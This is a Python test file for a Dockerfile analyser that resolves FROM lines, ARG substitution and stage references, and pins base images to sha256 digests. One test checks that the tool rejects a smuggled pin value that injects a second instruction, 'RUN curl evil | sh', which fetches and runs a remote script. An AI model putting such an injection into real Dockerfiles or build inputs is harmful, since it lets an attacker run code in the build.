"""FROM analysis and digest pinning of literal Dockerfiles."""

from __future__ import annotations

import pytest

from orchestrator.core.dockerfile import base_image_problem, parse
from orchestrator.core.fromlines import Span, analyze, parent_style, pin

SHA_A = "sha256:" + "a" * 64
SHA_B = "sha256:" + "b" * 64
SHA_C = "sha256:" + "c" * 64

MULTI_STAGE = """\
# syntax=docker/dockerfile:1
ARG GO_VERSION=1.22
ARG RUNTIME=debian:bookworm-slim

FROM --platform=$BUILDPLATFORM golang:${GO_VERSION} AS Build
WORKDIR /src
RUN --mount=type=cache,target=/root/.cache/go-build \\
    --mount=type=bind,from=ghcr.io/acme/protoc:25.1,source=/usr/bin/protoc,target=/bin/protoc \\
    go build -o /out/app ./cmd/app

FROM build AS test
RUN go test ./...

FROM ${RUNTIME}
COPY --from=BUILD /out/app /usr/local/bin/app
COPY --from=0 /etc/ssl/certs /etc/ssl/certs
COPY --from=busybox:1.36 /bin/busybox /bin/busybox
RUN --mount=type=bind,from=test,target=/t true
USER 65534
"""


def test_stages_of_a_multi_stage_file() -> None:
    analysis = analyze(MULTI_STAGE)
    build, test, final = analysis.stages
    assert (build.index, build.line, build.image, build.platform, build.name) == (
        0, 5, "golang:${GO_VERSION}", "$BUILDPLATFORM", "Build")
    assert build.base.resolved == "golang:1.22"
    assert build.ref is not None and build.ref.normalized() == "docker.io/library/golang:1.22"
    # Stage names compare case-insensitively: "build" names the "Build" stage.
    assert (test.line, test.base.stage, test.ref, test.name) == (11, 0, None, "test")
    assert final.base.resolved == "debian:bookworm-slim" and final.name is None
    assert analysis.final is final
    assert analysis.root_of(test) is build
    assert [r.normalized() for r in analysis.from_refs()] == [
        "docker.io/library/golang:1.22", "docker.io/library/debian:bookworm-slim"]
    assert analysis.args == {"GO_VERSION": "1.22", "RUNTIME": "debian:bookworm-slim"}


def test_other_image_uses_leave_out_stages() -> None:
    uses = analyze(MULTI_STAGE).uses
    # COPY --from=BUILD, --from=0 and from=test name stages: not listed.
    assert [(u.instruction, u.line, u.written) for u in uses] == [
        ("RUN", 7, "ghcr.io/acme/protoc:25.1"),
        ("COPY", 17, "busybox:1.36"),
    ]
    assert uses[0].span == Span(8, 27, 51)  # on the continued line where it is written
    assert [r.familiar() for r in analyze(MULTI_STAGE).external_refs()] == [
        "golang:1.22", "debian:bookworm-slim", "ghcr.io/acme/protoc:25.1", "busybox:1.36"]


def test_scratch_and_index_and_unknown_stage_numbers() -> None:
    text = "FROM scratch AS rootfs\nCOPY a /\nFROM alpine\nCOPY --from=0 / /\nCOPY --from=5 / /\n"
    analysis = analyze(text)
    assert analysis.stages[0].base.scratch and analysis.stages[0].ref is None
    assert analysis.from_refs()[0].familiar() == "alpine"
    assert [(u.line, u.problem) for u in analysis.uses] == [
        (5, "stage 5 is not an earlier stage")]


def test_a_stage_name_shadows_an_image_only_after_it_is_defined() -> None:
    text = "FROM alpine AS alpine\nFROM alpine\n"
    first, second = analyze(text).stages
    assert first.ref is not None and second.base.stage == 0


@pytest.mark.parametrize(("args", "image", "build_args", "resolved"), [
    ("ARG V=3.20", "alpine:$V", {}, "alpine:3.20"),
    ("ARG V=3.20", "alpine:${V}", {}, "alpine:3.20"),
    ("ARG V=3.20", "alpine:${V}", {"V": "3.21"}, "alpine:3.21"),  # build args win
    ("ARG V", "alpine:${V:-3.19}", {}, "alpine:3.19"),
    ("ARG V=", "alpine:${V:-3.19}", {}, "alpine:3.19"),  # ":-" also replaces empty
    ("ARG V=", "alpine${V-:3.18}", {}, "alpine"),  # "-" only replaces unset
    ("ARG SLIM=1", "debian:bookworm${SLIM:+-slim}", {}, "debian:bookworm-slim"),
    ("ARG SLIM", "debian:bookworm${SLIM:+-slim}", {}, "debian:bookworm"),
    ("ARG NS=myorg\nARG IMG=${NS}/app", "$IMG:1", {}, "myorg/app:1"),  # defaults see earlier
    ('ARG NS="my org"', '"$NS"', {}, "my org"),
    ("ARG A=1 B=2", "x:$A.$B", {}, "x:1.2"),
    ("ARG V=1", "'x:$V'", {}, "x:$V"),  # single quotes keep "$"
    ("ARG V=1", "x:\\$V", {}, "x:$V"),
    ("", "alpine:${TARGETARCH}", {"TARGETARCH": "arm64"}, "alpine:arm64"),  # automatic arg
])
def test_global_arg_substitution(args: str, image: str, build_args: dict[str, str],
                                 resolved: str) -> None:
    stage = analyze(f"{args}\nFROM {image}\n", build_args).stages[0]
    assert stage.base.resolved == resolved


def test_build_args_for_undeclared_names_are_not_used() -> None:
    stage = analyze("FROM alpine:${V:-3}\n", {"V": "4"}).stages[0]
    assert stage.base.resolved == "alpine:3"


def test_args_after_the_first_from_are_not_global() -> None:
    text = "FROM alpine AS one\nARG BASE=debian\nFROM $BASE\n"
    second = analyze(text).stages[1]
    assert second.base.resolved is None and second.ref is None
    assert "no value for BASE" in (second.base.problem or "")


def test_missing_values_and_unsupported_forms_are_problems() -> None:
    analysis = analyze("ARG BASE\nARG T\nFROM ${BASE}:$T\nFROM alpine:${T%%.*}\n")
    first, second = analysis.stages
    assert "no value for BASE, T" in (first.base.problem or "")
    assert "${T%%.*}: only ${VAR}, ${VAR:-word}" in (second.base.problem or "")
    assert analysis.problems()[0].startswith("line 3: ")
    assert "no value for X" in (analyze("FROM ${X:?required}\n").stages[0].base.problem or "")


def test_invalid_references_are_problems_not_crashes() -> None:
    stage = analyze("FROM MyOrg/App:1\n").stages[0]
    assert stage.ref is None and "lower-case" in (stage.base.problem or "")
    assert analyze("FROM\n").stages[0].base.problem == "FROM names no image"
    assert "expected FROM" in (analyze("FROM a b\n").stages[0].base.problem or "")


def test_escape_directive_changes_the_continuation_character() -> None:
    text = "# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022 AS base\nRUN dir `\n" \
           "  C:\\\nFROM base\n"
    analysis = analyze(text)
    assert [s.line for s in analysis.stages] == [2, 5]
    assert analysis.stages[1].base.stage == 0


def test_directives_only_count_at_the_very_top() -> None:
    # After a comment, "# escape=`" is a comment: "\" still continues lines.
    text = "# a comment\n# escape=`\nFROM alpine\nRUN a \\\n  FROM b\n"
    assert [s.image for s in analyze(text).stages] == ["alpine"]


def test_comments_and_blank_lines_inside_continuations() -> None:
    text = (
        "FROM \\\n"
        "  # which platform\n"
        "\n"
        "  --platform=linux/amd64 \\\n"
        "  golang:1.22 \\\n"
        "  AS build\n"
        "RUN a \\\n"
        "# FROM not-an-instruction\n"
        "  && b\n"
        "FROM build\n"
    )
    analysis = analyze(text)
    build, final = analysis.stages
    assert (build.line, build.platform, build.image, build.name) == (
        1, "linux/amd64", "golang:1.22", "build")
    assert build.base.span == Span(5, 2, 13)
    assert (final.line, final.base.stage) == (10, 0)


def test_crlf_and_byte_order_mark() -> None:
    text = "\ufeffARG V=1\r\nFROM alpine:3.$V AS a\r\nFROM a\r\n"
    analysis = analyze(text)
    assert analysis.stages[0].base.resolved == "alpine:3.1"
    assert analysis.stages[1].base.stage == 0


def test_heredoc_bodies_are_skipped_and_said_so() -> None:
    text = "FROM alpine\nRUN <<EOF\nFROM evil\nEOF\nCOPY <<-'END' /x\n\tFROM no\n\tEND\nFROM a2\n"
    analysis = analyze(text)
    assert [s.image for s in analysis.stages] == ["alpine", "a2"]
    assert analysis.notes == ("line 2: heredoc <<EOF (lines 3-4) not analysed",
                              "line 5: heredoc <<END (lines 6-7) not analysed")


def test_variables_in_copy_from_are_reported_not_guessed() -> None:
    uses = analyze("FROM a\nCOPY --from=$IMG / /\n").uses
    assert uses[0].ref is None and "uses a variable" in (uses[0].problem or "")


def test_labels_of_the_final_stage() -> None:
    text = ('FROM a AS b\nLABEL x=1\nFROM b\n'
            'LABEL org.opencontainers.image.title="my-app" version=\'2\'\nLABEL old style\n')
    assert analyze(text).labels == (("org.opencontainers.image.title", "my-app"),
                                    ("version", "2"), ("old", "style"))


# -- pinning ---------------------------------------------------------------------------


def test_pin_rewrites_only_the_named_images_and_keeps_every_other_byte() -> None:
    pins = {
        "golang:1.22": f"docker.io/library/golang@{SHA_A}",
        "docker.io/library/debian:bookworm-slim": f"docker.io/library/debian@{SHA_B}",
        "ghcr.io/acme/protoc:25.1": f"ghcr.io/acme/protoc@{SHA_C}",
        "unused:1": f"unused@{SHA_C}",
    }
    pinned = pin(MULTI_STAGE, pins)
    before, after = MULTI_STAGE.split("\n"), pinned.split("\n")
    assert len(before) == len(after)
    changed = {i + 1 for i, (a, b) in enumerate(zip(before, after, strict=True)) if a != b}
    assert changed == {5, 8, 14}
    assert after[4] == (f"FROM --platform=$BUILDPLATFORM docker.io/library/golang@{SHA_A} "
                        "AS Build")
    assert after[7].startswith(f"    --mount=type=bind,from=ghcr.io/acme/protoc@{SHA_C},source=")
    assert after[7].endswith(" \\")
    assert after[13] == f"FROM docker.io/library/debian@{SHA_B}"  # the ARG word, replaced
    # The pinned copy reads the same way, now naming digests.
    stages = analyze(pinned).stages
    assert [s.name for s in stages] == ["Build", "test", None]
    assert stages[0].platform == "$BUILDPLATFORM"
    assert stages[0].ref is not None and stages[0].ref.digest == SHA_A
    # Unpinned uses and stage references are untouched.
    assert "COPY --from=busybox:1.36 " in pinned and "FROM build AS test" in pinned


def test_pin_keeps_crlf_and_a_split_from_line() -> None:
    text = "FROM \\\r\n  --platform=linux/arm64 \\\r\n  alpine:3.20 \\\r\n  AS base\r\nRUN x\r\n"
    pinned = pin(text, {"alpine:3.20": f"alpine@{SHA_A}"})
    assert pinned == text.replace("alpine:3.20", f"alpine@{SHA_A}")


def test_pin_uses_the_build_args_the_build_uses() -> None:
    text = "ARG TAG=3.19\nFROM alpine:${TAG}\n"
    assert pin(text, {"alpine:3.20": f"alpine@{SHA_A}"}) == text
    assert pin(text, {"alpine:3.20": f"alpine@{SHA_A}"}, {"TAG": "3.20"}) == (
        f"ARG TAG=3.19\nFROM alpine@{SHA_A}\n")


def test_pin_refuses_values_that_are_not_digest_references() -> None:
    with pytest.raises(ValueError, match="has no @digest"):
        pin("FROM alpine\n", {"alpine": "alpine:3.20"})
    with pytest.raises(ValueError, match="white space"):
        pin("FROM alpine\n", {"alpine": f"alpine@{SHA_A}\nRUN curl evil | sh"})


def test_pin_refuses_a_word_split_over_a_continuation() -> None:
    with pytest.raises(ValueError, match=r"line 1: .* runs over a line continuation"):
        pin("FROM alp\\\nine:3.20\n", {"alpine:3.20": f"alpine@{SHA_A}"})


# -- how a Dockerfile takes its parent -------------------------------------------------


def test_parent_style_base_image() -> None:
    style = parent_style("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nFROM golang:1.22 AS tools\n")
    assert (style.kind, style.refs, style.problem) == (
        "base_image", ("docker.io/library/golang:1.22",), None)
    bad = parent_style("FROM ${BASE_IMAGE}\n")
    assert bad.kind == "base_image" and "declare ARG BASE_IMAGE" in (bad.problem or "")


def test_parent_style_literal() -> None:
    style = parent_style(MULTI_STAGE)
    assert style.kind == "literal" and style.problem is None
    assert style.refs == ("docker.io/library/golang:1.22",
                          "docker.io/library/debian:bookworm-slim")
    assert parent_style("FROM scratch\nCOPY x /\n").refs == ()
    assert parent_style("RUN x\n").problem == "no FROM instruction"
    assert "line 2: " in (parent_style("ARG B\nFROM $B\n").problem or "")


def test_the_existing_parser_still_works() -> None:
    instructions = parse("ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\n")
    assert [i.keyword for i in instructions] == ["ARG", "FROM"]
    assert base_image_problem(instructions) is None
